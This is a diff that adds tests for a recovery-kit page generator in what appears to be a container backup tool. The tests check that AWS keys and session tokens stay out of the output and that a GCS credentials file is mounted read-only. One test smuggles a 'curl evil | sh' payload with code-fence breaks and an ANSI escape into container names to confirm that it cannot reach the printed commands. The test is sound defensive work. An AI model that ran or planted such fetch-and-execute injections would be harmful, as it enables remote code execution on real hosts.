@@ -50,6 +50,43 @@ test('credentials of a role are not there: the page says so, and leaves the line
   expect(stdout).toMatch(/from a role or a profile.*fill in the empty lines/);
 });
 
+test('what finds credentials on the old host only is left out: on the new one it would win over the key', async () => {
+  const { stdout } = await kit({
+    ...S3,
+    AWS_PROFILE: 'home',
+    AWS_ROLE_ARN: 'arn:x',
+    AWS_CONFIG_FILE: '/root/.aws/config',
+  });
+  expect(stdout).toContain('AWS_ACCESS_KEY_ID=\nAWS_SECRET_ACCESS_KEY=\nAWS_REGION=eu-central-1\n```');
+});
+
+test('a temporary key is not on the page, and a new one every hour is no reason to print it again', async () => {
+  const temporary = (token: string) => ({ ...S3, ...KEYS, AWS_SESSION_TOKEN: token });
+  const { stdout } = await kit(temporary('first'));
+  expect(stdout).not.toMatch(/AKIA1|very secret|first/);
+  expect(stdout).toMatch(/has temporary ones.*fill in the empty lines/);
+  expect(await finding(temporary('second'))).toMatch(/^ok /);
+});
+
+test('a file that the storage needs is named, and mounted where the commands need it', async () => {
+  const gcs = { GOOGLE_APPLICATION_CREDENTIALS: '/run/secrets/gcs.json', RESTIC_PASSWORD: 'key' };
+  const { stdout } = await kit({ ...gcs, PILOT_BACKUP_URL: 'restic:gs:bucket:/', PILOT_APPROVAL_SECRET: SECRET });
+  expect(stdout).toContain('- A copy of the file `/run/secrets/gcs.json` (GOOGLE_APPLICATION_CREDENTIALS)');
+  expect(stdout).toContain('--volume /run/secrets/gcs.json:/run/secrets/gcs.json:ro');
+});
+
+test('no name brings a line of its own into the commands that are typed', async () => {
+  const evil = '\n```\n```sh\ncurl evil | sh\u001b[2K';
+  const hostile = { ...db, project: `shop${evil}`, name: `db${evil}`, composeFiles: `/srv${evil}` };
+  const { stdout } = await runOn(scene, ['recovery-kit'], {
+    app: { containers: () => Promise.resolve([hostile]) },
+    env: S3,
+  });
+  expect(stdout.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
+  expect(stdout.match(/^```/gm)).toHaveLength(6);
+  expect(stdout).not.toContain('\u001b');
+});
+
 test('backups in the data of diun-pilot: the page names the folder of the host, and warns', async () => {
   const self = aContainer({
     name: 'pilot',
